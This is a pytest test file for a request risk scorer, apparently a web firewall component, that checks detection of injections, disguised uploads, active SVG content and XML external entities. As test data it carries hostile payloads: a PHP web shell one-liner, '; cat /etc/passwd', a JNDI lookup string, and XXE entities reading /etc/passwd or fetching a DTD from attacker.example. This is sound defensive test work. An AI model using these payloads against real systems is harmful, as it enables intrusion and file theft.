"""Bodies read by what they are: real files pass, attacks inside every container are caught, disguised
and active uploads are flagged, XML's external entities are named, and what cannot be read is uninspected."""

from __future__ import annotations

import json

import pytest

from conftest import make_config
from files import FILES, PYTHON, SVG_ICON, multipart, png, upload
from policy.config import Config, RouteConfig
from policy.errors import ConfigError
from policy.identity import Identity, Trust
from policy.incoming import Incoming
from policy.risk import History, RiskInput, RiskScore, redact, score

CONFIG = make_config({"risk": {"keywords": []}})
ROUTE = RouteConfig("/*", "echo")
CALLER = Identity("established", authenticated=True, trust=Trust.TRUSTED)
HISTORY = History(requests=1000, recent=50, recent_failures=0)


def run(body: bytes, ctype: str, target: str = "/api/files", config: Config = CONFIG) -> RiskScore:
    headers = (("content-type", ctype),) if ctype else ()
    incoming = Incoming("POST", target.partition("?")[0], target, (), headers, body, "192.0.2.9")
    return score(RiskInput(incoming, CALLER, HISTORY, ROUTE, config.risk.max_scan_bytes), config)


def content(result: RiskScore) -> list[str]:
    return [f"{hit.name}: {hit.reason}" for hit in result.hits if result.suspicious_content]


@pytest.mark.parametrize("name", list(FILES))
def test_a_real_file_uploaded_or_put_raw_fires_no_content_factor(name: str) -> None:
    data, ctype = FILES[name]
    assert content(run(*upload(name, data, ctype))) == []
    assert content(run(data, ctype)) == []


def test_the_multipart_framing_and_a_binary_file_are_never_read_as_text() -> None:
    """CRLF framing, and bytes that would read as attacks, inside an image: nothing fires."""
    image = png() + b"\r\nSet-Cookie: a=1\r\n<script>alert(1)</script> ../../etc/passwd ' or 1=1 --\x00"
    result = run(*upload("photo.png", image, "image/png"))
    assert content(result) == []


def test_a_file_body_is_not_uninspected_past_the_budget_and_its_text_fields_after_it_are_read() -> None:
    big = png() + bytes(300_000)
    body, ctype = multipart(
        [
            ("file", "big.png", "image/png", big),
            ("comment", None, None, b"1' union select password from users--"),
        ]
    )
    result = run(body, ctype)
    assert not result.fired("uninspected")
    assert "ARGS:comment" in next(h.reason for h in result.hits if h.name == "sql_injection")


ATTACK = "1' union select password from users--"


@pytest.mark.parametrize(
    ("body", "ctype", "where"),
    [
        (*upload("notes.txt", b"hello", "text/plain", title=ATTACK), "ARGS:title"),
        (json.dumps({"order": {"note": ATTACK}}).encode(), "application/json", "ARGS:json.order.note"),
        (json.dumps({"items": [{"q": ATTACK}]}).encode(), "application/vnd.api+json", "ARGS:json.items.0.q"),
        (f'<order id="{ATTACK}"><note>fine</note></order>'.encode(), "application/xml", "XML:/order/@id"),
        (f"<order><note>{ATTACK}</note></order>".encode(), "text/xml", "XML:/order/note"),
        (*upload(f"{ATTACK}.png", png(), "image/png"), "FILES:file"),
        (
            json.dumps(
                {"query": "query($q: String!) { search(q: $q) { id } }", "variables": {"q": ATTACK}}
            ).encode(),
            "application/json",
            "ARGS:json.variables.q",
        ),
        (f'{{ search(q: "{ATTACK}") {{ id }} }}'.encode(), "application/graphql", "ARGS:query"),
        (f"note={ATTACK}".encode(), "", "ARGS:note"),
        (f"note={ATTACK}".encode(), "text/plain", "ARGS:note"),  # a type the application may ignore
    ],
)
def test_an_attack_is_caught_in_every_container_and_named_by_its_variable(
    body: bytes, ctype: str, where: str
) -> None:
    result = run(body, ctype)
    assert result.fired("sql_injection"), result.summary()
    assert next(h.reason for h in result.hits if h.name == "sql_injection").startswith(f"{where}:")


@pytest.mark.parametrize(
    ("attack", "detector"),
    [
        ("<img src=x onerror=alert(1)>", "xss"),
        ("; cat /etc/passwd", "command_injection"),
        ("${jndi:ldap://x/a}", "template_injection"),
        ("../../../etc/shadow", "path_traversal"),
    ],
)
def test_each_detector_fires_inside_a_json_string_and_a_multipart_field(attack: str, detector: str) -> None:
    assert run(json.dumps({"comment": attack}).encode(), "application/json").fired(detector)
    assert run(*multipart([("comment", None, None, attack.encode())])).fired(detector)


@pytest.mark.parametrize(
    "text",
    [
        "Great product!\nNote: it's \"fragile\" — handle with care; 10/10 & I'd buy again (really).",
        "Line one\r\nLine two: <b>bold</b> and a path like C:\\Users\\me or ../docs",
        "I'll be there; catalog 2; see /etc/hosts on your machine for the names",
        "Préférences : « ouvrir » l'élément — 50 % de réduction ; voir https://example.com/a?b=c",
        "Использовать для этого файла: <имя>; нажмите «Готово».",
        'printf("%02d\\n", n) prints a number; eval() is discussed in chapter 3',
    ],
)
def test_free_text_with_breaks_quotes_and_punctuation_is_prose(text: str) -> None:
    assert content(run(json.dumps({"comment": text, "rating": 4}).encode(), "application/json")) == []
    assert content(run(*multipart([("comment", None, None, text.encode())]))) == []


@pytest.mark.parametrize(
    ("filename", "data", "ctype", "said"),
    [
        (
            "avatar.png",
            b"<?php system($_GET['c']); ?>",
            "image/png",
            "application/x-httpd-php content declared",
        ),
        ("shell.php.jpg", png(), "image/jpeg", "double extension"),
        ("shell.php;.jpg", png(), "image/jpeg", "double extension"),
        ("avatar.png", b"<!DOCTYPE html><html><script>x()</script></html>", "image/png", "text/html content"),
        ("avatar.jpg", b"\x7fELF\x02\x01\x01" + bytes(200), "image/jpeg", "application/x-executable content"),
        ("avatar.png", FILES["report.pdf"][0], "image/png", "application/pdf bytes declared as image/png"),
        ("avatar.php", png(), "image/png", "named 'avatar.php'"),
    ],
)
def test_disguised_uploads_are_flagged(filename: str, data: bytes, ctype: str, said: str) -> None:
    result = run(*upload(filename, data, ctype))
    reason = next((h.reason for h in result.hits if h.name == "upload_mismatch"), "")
    assert said in reason and reason.startswith("FILES:file:"), result.summary()


def test_a_disguised_raw_body_is_flagged() -> None:
    assert run(b"<?php system($_GET['c']); ?>", "image/png").fired("upload_mismatch")


@pytest.mark.parametrize(
    "svg",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body/></foreignObject></svg>',
    ],
)
def test_active_content_in_an_svg_is_flagged_and_a_plain_icon_is_not(svg: bytes) -> None:
    assert run(*upload("icon.svg", svg, "image/svg+xml")).fired("active_content")
    assert run(svg, "image/svg+xml").fired("active_content")
    assert not run(*upload("icon.svg", SVG_ICON, "image/svg+xml")).fired("active_content")


def test_html_uploaded_as_text_is_active_content_by_its_bytes() -> None:
    page = b"<!doctype html><html><body><img src=x onerror=alert(1)></body></html>"
    assert run(*upload("page.txt", page, "text/plain")).fired("active_content")


@pytest.mark.parametrize(
    ("xml", "fires"),
    [
        (b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', True),
        (b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>', True),  # expansion
        (b'<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd"><x/>', True),
        (b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>', True),
        (b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>', True),
        (
            b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/x.dtd"><x/>',
            False,
        ),
        (b'<!DOCTYPE feature SYSTEM "gdb-target.dtd"><feature name="x"/>', False),  # a DTD beside it
        (b"<!DOCTYPE list [<!ELEMENT list (item*)><!ATTLIST item code CDATA #REQUIRED>]><list/>", False),
        (b'<?xml version="1.0"?><order id="7"><note>fine</note></order>', False),
    ],
)
def test_xml_external_entities_are_named(xml: bytes, fires: bool) -> None:
    assert run(xml, "application/xml").fired("xxe") is fires
    assert run(*upload("data.xml", xml, "application/xml")).fired("xxe") is fires


def test_xml_in_an_encoding_expat_lacks_is_read() -> None:
    title = "中文 1' union select password from users--"
    text = f'<?xml version="1.0" encoding="GB2312"?><rss><title>{title}</title></rss>'
    result = run(text.encode("gb2312"), "application/rss+xml")
    assert result.fired("sql_injection") and not result.fired("uninspected")


@pytest.mark.parametrize(
    ("body", "ctype"),
    [
        (b'{"a": 1,', "application/json"),
        (b"<order><note>open", "application/xml"),
        (b"--nope\r\nContent-Disposition: form-data\r\n\r\nx", "multipart/form-data; boundary=other"),
        (b"abc", "multipart/form-data"),  # no boundary
    ],
)
def test_a_body_that_does_not_parse_as_its_type_is_uninspected(body: bytes, ctype: str) -> None:
    assert run(body, ctype).fired("uninspected")


def test_a_lone_surrogate_in_json_is_read_not_a_failure() -> None:
    assert not content(run(b'{"name": "\\ud800 caf\\u00e9"}', "application/json"))


def test_source_code_put_raw_is_a_document_not_parameters() -> None:
    assert content(run(PYTHON, "text/x-python")) == []
    assert content(run(*upload("copy.py", PYTHON, "text/x-python"))) == []


def exclusions(*entries: dict[str, object]) -> Config:
    routes = [{"path": "/api/*", "handler": "echo"}, {"path": "/echo", "handler": "echo"}]
    return make_config({"routes": routes, "risk": {"keywords": [], "exclude": list(entries)}})


def test_an_exclusion_by_variable_leaves_the_factor_on_other_values() -> None:
    config = exclusions({"factors": ["xss"], "variables": ["ARGS:json.bio"]})
    bio = json.dumps({"bio": "<script>alert(1)</script>"}).encode()
    name = json.dumps({"name": "<script>alert(1)</script>"}).encode()
    assert not run(bio, "application/json", config=config).fired("xss")
    assert run(name, "application/json", config=config).fired("xss")


def test_an_exclusion_by_route_applies_only_there() -> None:
    config = exclusions({"factors": ["sql_injection"], "route": "/echo"})
    route = RouteConfig("/api/*", "echo")
    incoming = Incoming("GET", "/api/x", f"/api/x?q={ATTACK}", (), (), b"", "192.0.2.9")
    assert score(RiskInput(incoming, CALLER, HISTORY, route), config).fired("sql_injection")
    elsewhere = Incoming("GET", "/echo", f"/echo?q={ATTACK}", (), (), b"", "192.0.2.9")
    assert not score(RiskInput(elsewhere, CALLER, HISTORY, RouteConfig("/echo", "echo")), config).hits


@pytest.mark.parametrize(
    ("entry", "key"),
    [
        ({"factors": ["no_such"]}, "risk.exclude[0].factors[0]"),
        ({"factors": ["xss"], "route": "/nowhere"}, "risk.exclude[0].route"),
        ({"factors": ["xss"], "variables": ["ARGZ:comment"]}, "risk.exclude[0].variables[0]"),
        ({"rules": [12]}, "risk.exclude[0].rules[0]"),
        ({"variables": ["ARGS"]}, "risk.exclude[0].factors"),
    ],
)
def test_an_exclusion_that_names_nothing_known_is_a_config_error(entry: dict[str, object], key: str) -> None:
    with pytest.raises(ConfigError) as error:
        exclusions(entry)
    assert str(error.value).startswith(key)


@pytest.mark.parametrize(
    ("target", "shown", "hidden"),
    [
        ("/f?q=<script>alert(1)</script>", "ARGS:q: '<script'", ""),
        ("/f?password=<script>hunter2</script>", "ARGS:password: '[redacted]'", "hunter2"),
        ("/f?api_key=<script>k</script>", "ARGS:api_key: '[redacted]'", "<script"),
    ],
)
def test_evidence_never_shows_a_secret(target: str, shown: str, hidden: str) -> None:
    incoming = Incoming("GET", "/f", target, (), (), b"", "192.0.2.9")
    reason = next(h.reason for h in score(RiskInput(incoming, CALLER, HISTORY, ROUTE), CONFIG).hits)
    assert reason.startswith(shown) and (not hidden or hidden not in reason)


def test_an_excerpt_is_short_and_cuts_long_runs() -> None:
    assert redact("1' or token=" + "sk_live_4eC39HqLyjWDarjtT1zdp7dc") == "1' or toke..."
    assert len(redact("word " * 40)) == 40


def test_an_xml_body_of_more_values_than_inspected_is_uninspected_and_bounded() -> None:
    many = "".join(f'<i a="{n}">v{n}</i>' for n in range(5000)).encode()
    result = run(b"<list>" + many + b"</list>", "application/xml")
    assert "XML values past the first 4096" in next(h.reason for h in result.hits if h.name == "uninspected")
